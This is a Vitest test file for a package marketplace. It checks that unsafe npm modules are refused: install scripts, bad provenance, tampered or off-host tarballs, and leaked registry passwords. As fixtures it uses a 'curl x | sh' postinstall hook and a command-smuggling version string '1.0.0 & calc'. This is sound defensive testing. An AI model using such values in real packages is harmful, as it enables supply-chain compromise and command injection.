import fs from 'node:fs';
import path from 'node:path';
import { temporaryFolder } from '@gati/test-kit/temporary-folder';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { readPackages } from '../../src/foreign/lock.ts';
import { readDeclarations } from '../../src/foreign/read-declarations.ts';
import { type Market, openMarket, toModuleName } from '../../src/marketplace/market.ts';
import type { Allowed } from '../../src/marketplace/rules.ts';
import { type Published, startTestRegistry, type TestRegistry } from './helpers/registry.ts';
import { createSigner, type Signer } from './helpers/signer.ts';

const ALLOWED: Allowed = { minAge: 3, grants: [], major: false };
const REPOSITORY = 'https://github.com/acme/fx';

let registry: TestRegistry;
let signer: Signer;
let trustRoot = '';
beforeAll(async () => {
  [registry, signer] = await Promise.all([startTestRegistry(), createSigner()]);
  trustRoot = path.join(temporaryFolder('trust'), 'root.json');
  fs.writeFileSync(trustRoot, JSON.stringify(signer.trustRoot));
});
afterAll(() => registry.close());

let root = '';
let packages = 0;
/** Name of a package that no other test uses. */
let name = '';
beforeEach(() => {
  root = temporaryFolder('market');
  name = `@acme/fx-${++packages}`;
});

/** Opens the market for the declarations that the app has now. npm is not run. */
const open = (install = false): Market =>
  openMarket({
    root,
    registry: registry.url,
    trustRoot,
    declared: readDeclarations(root, {}).modules,
    install,
  });

const TEXT = { type: 'string' };
const signed: Published['attest'] = (integrity) =>
  signer.attest({ integrity, repository: REPOSITORY });

interface Version extends Partial<Omit<Published, 'manifest'>> {
  gati?: unknown;
  manifest?: object;
}

const publish = (
  version: string,
  { gati = {}, manifest = {}, ...more }: Version = {},
): Promise<{ integrity: string }> =>
  registry.publish({
    manifest: { name, version, repository: `git+${REPOSITORY}.git`, gati, ...manifest },
    ...more,
  });

const refused = (reason: RegExp): object => ({
  code: 'GATI_MODULE_REFUSED',
  message: expect.stringMatching(reason),
  diagnostic: { fix: expect.stringMatching(/\w/) },
});

describe('add', () => {
  test('writes the declaration, and pins integrity, provenance, grants and contract', async () => {
    const descriptor = { name: 'fx', methods: { rate: { input: TEXT, output: TEXT } } };
    const gati = { grants: { network: true, env: ['FX_KEY'] }, descriptor };
    const { integrity } = await publish('1.2.0', { gati, attest: signed });
    expect(await open().add(name, 'fx', ALLOWED)).toMatchObject({ name: 'fx' });
    expect(fs.readFileSync(path.join(root, 'src/modules/fx.module.yaml'), 'utf8')).toBe(
      `source: npm:${name}@1.2.0\n`,
    );
    expect(readPackages(root)[name]).toEqual({
      version: '1.2.0',
      integrity,
      provenance: {
        repository: REPOSITORY,
        workflow: '.github/workflows/release.yml',
        commit: 'a'.repeat(40),
      },
      grants: { network: true, env: ['FX_KEY'] },
      descriptor: expect.objectContaining({ version: '1.2.0', methods: descriptor.methods }),
    });
  });

  test('adds a package without provenance, and remove undoes all changes', async () => {
    await publish('1.0.0');
    const { candidate } = await open().add(`${name}@^1`, 'fx', ALLOWED);
    expect(candidate.provenance).toBeUndefined();
    expect(await open().remove('fx')).toEqual({ name: 'fx', package: name });
    expect([readPackages(root), readDeclarations(root, {}).modules]).toEqual([{}, []]);
  });

  test.each(['../fx', 'fx-rates', '__proto__'])(
    'refuses the name %s, which no module can have',
    async (wanted) => {
      await publish('1.0.0');
      await expect(open().add(name, wanted, ALLOWED)).rejects.toThrow("can't be declared");
      expect(fs.readdirSync(root)).toEqual([]);
    },
  );

  test.each<[string, Version, RegExp]>([
    ['a version of this morning', { hours: 5 }, /published 5 hours ago.*3 days/],
    ['an install script', { manifest: { scripts: { postinstall: 'curl x | sh' } } }, /postinstall/],
    ['code that npm compiles', { files: { 'binding.gyp': '{}' } }, /binding\.gyp/],
    [
      'a dependency from git',
      { manifest: { dependencies: { a: 'github:evil/a' } } },
      /dependency a/,
    ],
    [
      'a dependency from a URL',
      { manifest: { dependencies: { a: 'https://x/a.tgz' } } },
      /dependency a/,
    ],
    [
      'a hidden dependency',
      { described: { dependencies: { a: '^1.0.0' } } },
      /`dependencies` in its tarball/,
    ],
    [
      'hidden grants',
      { gati: { grants: { network: true } }, described: { gati: {} } },
      /`gati` in its tarball/,
    ],
    ['grants that do not exist', { gati: { grants: { root: true } } }, /gati\.grants/],
    ['no module', { gati: null }, /not a module of Gati/],
    [
      'a claimed provenance that is missing',
      { attest: async () => undefined },
      /provenance is missing/,
    ],
    [
      'the provenance of another tarball',
      {
        attest: () =>
          signer.attest({ integrity: `sha512-${'A'.repeat(86)}==`, repository: REPOSITORY }),
      },
      /that of another tarball/,
    ],
    [
      'a provenance that another repository signed',
      {
        attest: (integrity) =>
          signer.attest({
            integrity,
            repository: REPOSITORY,
            signedBy: 'https://github.com/evil/fx',
          }),
      },
      /signed by another repository/,
    ],
    [
      'a provenance that does not match its package.json',
      {
        attest: (integrity) =>
          signer.attest({ integrity, repository: 'https://github.com/evil/fx' }),
      },
      /names https:\/\/github\.com\/evil\/fx/,
    ],
    [
      'a provenance that an unknown Sigstore signed',
      {
        attest: async (integrity) =>
          (await createSigner()).attest({ integrity, repository: REPOSITORY }),
      },
      /no valid signature/,
    ],
  ])('refuses %s', async (_case, version, reason) => {
    await publish('1.0.0', version);
    await expect(open().add(name, 'fx', ALLOWED)).rejects.toMatchObject(refused(reason));
    expect(fs.existsSync(path.join(root, 'src'))).toBe(false);
  });

  test('refuses a changed statement under a valid signature', async () => {
    const attest: Published['attest'] = async (integrity) => {
      const proof = (await signed(integrity)) as {
        attestations: { bundle: { dsseEnvelope: { payload: string } } }[];
      };
      const { dsseEnvelope } = proof.attestations[0]!.bundle;
      const text = Buffer.from(dsseEnvelope.payload, 'base64').toString();
      dsseEnvelope.payload = Buffer.from(text.replace('"aaaa', '"bbbb')).toString('base64');
      return proof;
    };
    await publish('1.0.0', { attest });
    await expect(open().add(name, 'fx', ALLOWED)).rejects.toMatchObject(
      refused(/no valid signature/),
    );
  });

  test('refuses a tarball that was changed after it was published', async () => {
    await publish('1.0.0', { attest: signed });
    registry.tamper(name, '1.0.0', Buffer.from('other'));
    await expect(open().add(name, 'fx', ALLOWED)).rejects.toMatchObject(refused(/SHA-512 differs/));
  });

  test('accepts a new version with --min-age 0', async () => {
    await publish('1.0.0', { hours: 0 });
    await open().add(name, 'fx', { ...ALLOWED, minAge: 0 });
    expect(readPackages(root)[name]).toMatchObject({ version: '1.0.0' });
  });
});

describe('update', () => {
  const rates = (output: object, more: object = {}): object => ({
    descriptor: { name: 'fx', methods: { rate: { input: TEXT, output }, ...more } },
  });

  test('moves to a newer version of the same origin, and reports what changes', async () => {
    await publish('1.0.0', { gati: rates(TEXT), attest: signed });
    await open().add(name, 'fx', ALLOWED);
    const file = path.join(root, 'src/modules/fx.module.yaml');
    fs.appendFileSync(file, '# ours\nenv: [FX_KEY]\n');
    await publish('1.1.0', { gati: rates(TEXT, { list: {} }), attest: signed });
    const { changes } = await open().update('fx', ALLOWED);
    expect(changes?.contract).toEqual([{ level: 'minor', message: expect.any(String) }]);
    expect(fs.readFileSync(file, 'utf8')).toBe(
      `source: npm:${name}@1.1.0\n# ours\nenv: [ FX_KEY ]\n`,
    );
    expect(readPackages(root)[name]).toMatchObject({ version: '1.1.0' });
  });

  test.each<[string, Version, string, RegExp]>([
    ['an older version', {}, '0.9.0', /older than 1\.0\.0/],
    ['a version without provenance', { attest: undefined }, '1.0.1', /has no provenance/],
    [
      'a version of another workflow',
      {
        attest: (integrity) =>
          signer.attest({
            integrity,
            repository: REPOSITORY,
            workflow: '.github/workflows/other.yml',
          }),
      },
      '1.0.1',
      /workflow is .*other\.yml/,
    ],
    [
      'a version of another repository',
      {
        manifest: { repository: 'https://github.com/evil/fx' },
        attest: (integrity) =>
          signer.attest({ integrity, repository: 'https://github.com/evil/fx' }),
      },
      '1.0.1',
      /repository is https:\/\/github\.com\/evil\/fx/,
    ],
    [
      'a version that wants more',
      { gati: { ...rates(TEXT), grants: { network: true, env: ['KEY'] } } },
      '1.0.1',
      /now wants network, env:KEY/,
    ],
    ['a broken contract', { gati: rates({ type: 'number' }) }, '1.0.1', /breaks its contract/],
    ['a version of today', { hours: 1 }, '1.0.1', /1 hours ago/],
  ])('refuses %s, and keeps the pinned one', async (_case, version, number, reason) => {
    await publish('1.0.0', { gati: rates(TEXT), attest: signed });
    await open().add(name, 'fx', ALLOWED);
    await publish(number, { gati: rates(TEXT), attest: signed, ...version });
    await expect(open().update('fx', ALLOWED)).rejects.toMatchObject(refused(reason));
    expect(readPackages(root)[name]).toMatchObject({ version: '1.0.0' });
  });

  test('accepts more grants and a broken contract if the options allow them', async () => {
    await publish('1.0.0', { gati: rates(TEXT) });
    await open().add(name, 'fx', ALLOWED);
    await publish('2.0.0', { gati: { ...rates({ type: 'number' }), grants: { network: true } } });
    await open().update('fx', { ...ALLOWED, grants: ['network'], major: true });
    expect(readPackages(root)[name]).toMatchObject({ version: '2.0.0', grants: { network: true } });
  });

  test('refuses another tarball under the same version', async () => {
    await publish('1.0.0');
    await open().add(name, 'fx', ALLOWED);
    await publish('1.0.0', { files: { 'index.js': 'evil()' } });
    await expect(open().update('fx', ALLOWED)).rejects.toMatchObject(refused(/another tarball/));
  });
});

describe('npm', () => {
  beforeEach(() => {
    fs.writeFileSync(path.join(root, 'package.json'), '{ "name": "app", "version": "1.0.0" }');
  });

  test('installs the checked version without its scripts', async () => {
    await publish('1.0.0', { files: { 'index.js': '' } });
    await open(true).add(name, 'fx', ALLOWED);
    expect(fs.existsSync(path.join(root, 'node_modules', name, 'index.js'))).toBe(true);
    const manifest = fs.readFileSync(path.join(root, 'package.json'), 'utf8');
    expect(JSON.parse(manifest)).toMatchObject({ dependencies: { [name]: '1.0.0' } });
  });

  test('does not install a package whose dependency has an install script', async () => {
    const scripts = { postinstall: 'exit 1' };
    await registry.publish({
      manifest: { name: `dep-${packages}`, version: '1.0.0', scripts },
      described: { hasInstallScript: true },
    });
    await publish('1.0.0', { manifest: { dependencies: { [`dep-${packages}`]: '1.0.0' } } });
    await expect(open(true).add(name, 'fx', ALLOWED)).rejects.toMatchObject(
      refused(/its dependency dep-\d+ runs a script/),
    );
    expect(fs.readdirSync(root)).toEqual(['package.json']);
    expect(fs.readFileSync(path.join(root, 'package.json'), 'utf8')).not.toContain(name);
  });
});

describe('a module that gati({ modules }) declares', () => {
  const openFor = (source: string): Market =>
    openMarket({
      root,
      registry: registry.url,
      trustRoot,
      declared: readDeclarations(root, { fx: source }).modules,
      install: false,
    });

  test('is not changed by add, update and remove, and the lock stays', async () => {
    await publish('1.0.0');
    await open().add(name, 'fx', ALLOWED);
    fs.rmSync(path.join(root, 'src/modules/fx.module.yaml'));
    await publish('1.1.0');
    const market = openFor(`npm:${name}@1.0.0`);
    const reason = refused(/gati\(\{ modules \}\) declares it/);
    await expect(market.remove('fx')).rejects.toMatchObject(reason);
    await expect(market.update('fx', ALLOWED)).rejects.toMatchObject(reason);
    await expect(market.add(name, 'fx', ALLOWED)).rejects.toMatchObject(reason);
    expect(Object.keys(readPackages(root))).toEqual([name]);
    expect(fs.readdirSync(path.join(root, 'src/modules'))).toEqual([]);
  });
});

test('update changes a declaration that ends in .yml', async () => {
  await publish('1.0.0');
  await open().add(name, 'fx', ALLOWED);
  const folder = path.join(root, 'src/modules');
  fs.renameSync(path.join(folder, 'fx.module.yaml'), path.join(folder, 'fx.module.yml'));
  await publish('1.1.0');
  await open().update('fx', ALLOWED);
  expect(fs.readdirSync(folder)).toEqual(['fx.module.yml']);
  expect(readDeclarations(root, {}).modules[0]?.source).toBe(`npm:${name}@1.1.0`);
});

test('remove keeps a package that another module uses', async () => {
  await publish('1.0.0');
  await open().add(name, 'fx', ALLOWED);
  await open().add(name, 'rates', ALLOWED);
  await open().remove('fx');
  expect(Object.keys(readPackages(root))).toEqual([name]);
  expect(readDeclarations(root, {}).modules.map((module) => module.name)).toEqual(['rates']);
});

test('a version that is no semantic version never gets into the arguments of npm', async () => {
  await publish('1.0.0 & calc');
  await expect(open().inspect(name)).rejects.toMatchObject(refused(/no such version/));
});

test('the password of a registry is in no error', async () => {
  await publish('1.0.0');
  const { port } = new URL(registry.url);
  const market = openMarket({
    root,
    registry: `http://ci:pass-9@127.0.0.1:${port}/`,
    declared: [],
    install: false,
  });
  const error: Error = await market.inspect('@acme/none').then(
    () => new Error('none'),
    (thrown: Error) => thrown,
  );
  expect(error.message).toContain('responds 404');
  expect(String(error.cause ?? '') + error.message).not.toContain('pass-9');
});

test('search lists packages', async () => {
  await publish('1.0.0');
  expect((await open().search(name)).map((each) => each.name)).toEqual([name]);
});

test('a registry without TLS and a tarball on another host are errors', async () => {
  const dist = { tarball: 'https://evil.example/fx.tgz' };
  await publish('1.0.0', { dist });
  await expect(open().inspect(name)).rejects.toMatchObject({
    code: 'GATI_MODULE_REGISTRY',
    message: expect.stringContaining('is not on'),
  });
  expect(() =>
    openMarket({ root, registry: 'http://127.evil.example', declared: [], install: false }),
  ).toThrow(/no TLS/);
});

test.each([
  ['@acme/fx-rates', 'fxRates'],
  ['gati-module-scorer', 'scorer'],
  ['2captcha', '_2captcha'],
])('the package %s is the module %s', (packageName, module) => {
  expect(toModuleName(packageName)).toBe(module);
});
